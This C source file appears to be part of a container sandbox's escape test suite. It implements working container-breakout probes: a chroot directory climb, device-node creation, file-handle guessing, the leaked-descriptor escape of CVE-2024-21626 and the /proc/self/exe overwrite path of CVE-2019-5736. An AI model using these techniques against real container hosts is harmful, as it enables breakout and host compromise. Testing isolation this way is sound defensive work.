/* SPDX-License-Identifier: Apache-2.0
 *
 * Attacks by path: the host's directories, other processes' /proc, device nodes, kernel
 * files, file handles, inherited descriptors.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

#include "tests/escape/attack.h"
#include "tests/escape/numbers.h"

#define CLIMB_STEPS 64
#define FD_SWEEP    4096

long arg_number(const char *word)
{
	return strtol(word, NULL, 0);
}

int arg_signal(const char *word)
{
	for (int s = 1; s < NSIG; s++) {
		const char *name = sigabbrev_np(s);

		if (name && strcmp(name, word) == 0)
			return s;
	}
	return (int)arg_number(word);
}

int become_uid(const char *word)
{
	uid_t uid = (uid_t)arg_number(word);

	if (uid == 0)
		return 0;
	if (setgroups(0, NULL) < 0 || setresgid(uid, uid, uid) < 0)
		return -1;
	return setresuid(uid, uid, uid);
}

int got_fd(int fd)
{
	if (fd < 0)
		return -1;
	close(fd);
	return 0;
}

static int flags_of(const char *word)
{
	if (strcmp(word, "wo") == 0)
		return O_WRONLY;
	if (strcmp(word, "rw") == 0)
		return O_RDWR;
	if (strcmp(word, "path") == 0)
		return O_PATH;
	if (strcmp(word, "dir") == 0)
		return O_RDONLY | O_DIRECTORY;
	return O_RDONLY;
}

/* Opens and nothing more: O_WRONLY on a kernel switch is success enough. */
static int file_open(struct trial *t, char **args)
{
	(void)t;
	return got_fd(open(args[0], flags_of(args[1]) | O_CLOEXEC | O_NONBLOCK | O_NOCTTY));
}

static int file_read(struct trial *t, char **args)
{
	char byte;
	int fd = open(args[0], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, &byte, 1);
	if (n < 0)
		return trial_fail(t, "read");
	close(fd);
	return n == 0 ? trial_say(t, "empty") : 0;
}

static int file_stat(struct trial *t, char **args)
{
	struct stat st;

	(void)t;
	return stat(args[0], &st);
}

/* Is there anything in the directory? */
static int file_list(struct trial *t, char **args)
{
	DIR *d = opendir(args[0]);
	int n = 0;

	if (!d)
		return -1;
	for (struct dirent *e; (e = readdir(d));)
		n += strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0;
	closedir(d);
	return n == 0 ? trial_say(t, "empty") : 0;
}

static int file_visible(struct trial *t, char **args)
{
	DIR *d = opendir("/proc");
	int seen = 0;

	if (!d)
		return -1;
	for (struct dirent *e; (e = readdir(d));)
		seen |= strcmp(e->d_name, args[0]) == 0;
	closedir(d);
	return trial_say(t, seen ? "visible" : "hidden");
}

/* The classic: chroot into a subdirectory while the working directory stays above it. */
static int climb(struct trial *t)
{
	char dir[] = "/climb.XXXXXX";

	if (!mkdtemp(dir))
		return trial_fail(t, "mkdir");
	if (chroot(dir) < 0) {
		trial_fail(t, "chroot");
		rmdir(dir);
		return -1;
	}
	for (int i = 0; i < CLIMB_STEPS; i++)
		if (chdir("..") < 0)
			return trial_fail(t, "chdir");
	return chroot(".") < 0 ? trial_fail(t, "chroot") : 0;
}

static int file_climb_read(struct trial *t, char **args)
{
	return climb(t) < 0 ? -1 : got_fd(open(args[0], O_RDONLY | O_CLOEXEC));
}

static int file_climb_stat(struct trial *t, char **args)
{
	return climb(t) < 0 ? -1 : file_stat(t, args);
}

static int file_climb_chmod(struct trial *t, char **args)
{
	return climb(t) < 0 ? -1 : chmod(args[0], 0600);
}

static int unix_connect(const char *path)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", path);
	return connect(fd, (struct sockaddr *)&sun, sizeof(sun));
}

static int file_unix(struct trial *t, char **args)
{
	(void)t;
	return unix_connect(args[0]);
}

static int file_climb_unix(struct trial *t, char **args)
{
	return climb(t) < 0 ? -1 : unix_connect(args[0]);
}

static int file_mknod(struct trial *t, char **args)
{
	mode_t kind = args[0][0] == 'b' ? S_IFBLK : S_IFCHR;
	dev_t dev = makedev((unsigned int)arg_number(args[1]), (unsigned int)arg_number(args[2]));
	char path[] = "/node.XXXXXX";
	int fd = mkstemp(path), result = 0;

	if (fd < 0)
		return trial_fail(t, "mkstemp");
	close(fd);
	unlink(path);
	if (mknod(path, kind | 0666, dev) < 0)
		return trial_fail(t, "mknod");
	fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	if (fd < 0)
		result = trial_fail(t, "open");
	else
		close(fd);
	unlink(path);
	return result;
}

/* Metadata of a host inode, set to what it already is. */
static int file_chmod(struct trial *t, char **args)
{
	struct stat st;

	if (stat(args[0], &st) < 0)
		return trial_fail(t, "stat");
	return chmod(args[0], st.st_mode & 07777);
}

static int file_fchmodat2(struct trial *t, char **args)
{
	struct stat st;

	if (stat(args[0], &st) < 0)
		return trial_fail(t, "stat");
	return (int)syscall(SYS_fchmodat2, AT_FDCWD, args[0], st.st_mode & 07777, 0);
}

static int file_fchmod(struct trial *t, char **args)
{
	struct stat st;
	int fd = open(args[0], O_RDONLY | O_CLOEXEC);

	if (fd < 0 || fstat(fd, &st) < 0)
		return trial_fail(t, "open");
	return fchmod(fd, st.st_mode & 07777);
}

static int file_chown(struct trial *t, char **args)
{
	struct stat st;

	if (stat(args[0], &st) < 0)
		return trial_fail(t, "stat");
	return chown(args[0], st.st_uid, st.st_gid);
}

static int file_utimens(struct trial *t, char **args)
{
	struct stat st;

	if (stat(args[0], &st) < 0)
		return trial_fail(t, "stat");
	return utimensat(AT_FDCWD, args[0], (struct timespec[]){ st.st_atim, st.st_mtim }, 0);
}

static int file_unlink(struct trial *t, char **args)
{
	(void)t;
	return unlink(args[0]);
}

static int file_rename(struct trial *t, char **args)
{
	(void)t;
	return rename(args[0], args[1]);
}

struct handle {
	unsigned int n_bytes;
	int type;
	unsigned char bytes[128];
};

static int handle_parse(const char *word, struct handle *ret_handle)
{
	/* TYPE:HEX, as the host's own name_to_handle_at gave it. */
	char *colon;

	ret_handle->type = (int)strtol(word, &colon, 10);
	ret_handle->n_bytes = 0;
	if (*colon != ':')
		return -1;
	for (const char *p = colon + 1; p[0] && p[1] && ret_handle->n_bytes < 128; p += 2) {
		char two[] = { p[0], p[1], '\0' };

		ret_handle->bytes[ret_handle->n_bytes++] = (unsigned char)strtoul(two, NULL, 16);
	}
	return 0;
}

/* A guessed handle through the container's own root. */
static int file_handle(struct trial *t, char **args)
{
	struct handle h = { 0 };
	int root_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int fd;

	if (root_fd < 0 || handle_parse(args[0], &h) < 0)
		return trial_fail(t, "prepare");
	fd = (int)syscall(SYS_open_by_handle_at, root_fd, &h, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	return got_fd(openat(fd, args[1], O_RDONLY | O_CLOEXEC)) < 0 ? trial_fail(t, "openat") : 0;
}

static int file_make_handle(struct trial *t, char **args)
{
	struct handle h = { .n_bytes = sizeof(h.bytes) };
	int mount_id;

	(void)t;
	return (int)syscall(SYS_name_to_handle_at, AT_FDCWD, args[0], &h, &mount_id, 0);
}

static int file_inherited(struct trial *t, char **args)
{
	(void)t;
	return got_fd(openat((int)arg_number(args[0]), args[1], O_RDONLY | O_CLOEXEC));
}

/* A working directory through a descriptor that somebody left open (CVE-2024-21626). */
static int file_cwd(struct trial *t, char **args)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%s", args[0]);
	if (chdir(path) < 0)
		return trial_fail(t, "chdir");
	return got_fd(open(args[1], O_RDONLY | O_CLOEXEC));
}

/* A runtime that enters its root and then runs what the image asks for, which is the
 * runtime itself (CVE-2019-5736). Succeeds by not coming back. */
static int file_exec_self(struct trial *t, char **args)
{
	const char *const argv[] = { "attack", "direct", "end-with", "42", NULL };

	if (chroot(args[0]) < 0 || chdir("/") < 0)
		return trial_fail(t, "chroot");
	syscall(SYS_execve, "/proc/self/exe", argv, NULL);
	return trial_fail(t, "execve");
}

static int file_descriptors(struct trial *t, char **args)
{
	char link[64], target[PATH_MAX];

	(void)args;
	for (int fd = 3; fd < FD_SWEEP; fd++) {
		ssize_t n;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		n = readlink(link, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		fprintf(stderr, "descriptor %d: %s\n", fd, target);
		return trial_say(t, "fd:%d", fd);
	}
	return trial_say(t, "none");
}

/* Every /proc/N/exe that can be reached, asked for writing: the road of CVE-2019-5736.
 * Only files that are not below the container's root count. */
static int file_exe_sweep(struct trial *t, char **args)
{
	int reached = 0;

	for (long pid = 1; pid < arg_number(args[0]); pid++) {
		char path[64], target[PATH_MAX];
		ssize_t n;
		int fd;

		snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
		n = readlink(path, target, sizeof(target) - 1);
		if (n <= 0)
			continue;
		target[n] = '\0';
		if (strcmp(target, "/attack") == 0)
			continue;
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			reached++;
			close(fd);
		}
	}
	return trial_say(t, reached ? "reached" : "none");
}

const struct attack attacks_files[] = {
	{ "open", 2, file_open },
	{ "read", 1, file_read },
	{ "stat", 1, file_stat },
	{ "list", 1, file_list },
	{ "visible", 1, file_visible },
	{ "climb-read", 1, file_climb_read },
	{ "climb-stat", 1, file_climb_stat },
	{ "climb-chmod", 1, file_climb_chmod },
	{ "climb-unix", 1, file_climb_unix },
	{ "unix", 1, file_unix },
	{ "mknod", 3, file_mknod },
	{ "chmod", 1, file_chmod },
	{ "fchmod", 1, file_fchmod },
	{ "fchmodat2", 1, file_fchmodat2 },
	{ "chown", 1, file_chown },
	{ "utimens", 1, file_utimens },
	{ "unlink", 1, file_unlink },
	{ "rename", 2, file_rename },
	{ "handle", 2, file_handle },
	{ "make-handle", 1, file_make_handle },
	{ "inherited", 2, file_inherited },
	{ "cwd", 2, file_cwd },
	{ "exec-self", 1, file_exec_self },
	{ "descriptors", 0, file_descriptors },
	{ "exe-sweep", 1, file_exe_sweep },
	{ NULL, 0, NULL },
};
